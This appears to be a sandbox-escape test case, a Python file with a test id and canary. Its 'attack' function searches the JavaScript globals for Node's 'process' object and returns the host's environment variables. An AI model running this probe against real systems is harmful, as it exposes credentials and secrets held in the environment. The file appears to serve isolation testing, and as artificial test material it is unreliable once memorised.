"""The Node.js globals that hide in globalThis: navigator, process by its symbol, global.

id: S42
canary: secret
"""

import js


def attack(target):
    for name in ("global", "globalThis", "self"):
        scope = getattr(js, name, None)
        if scope is not None and hasattr(scope, "process"):
            return js.JSON.stringify(scope.process.env)
    return "nothing"
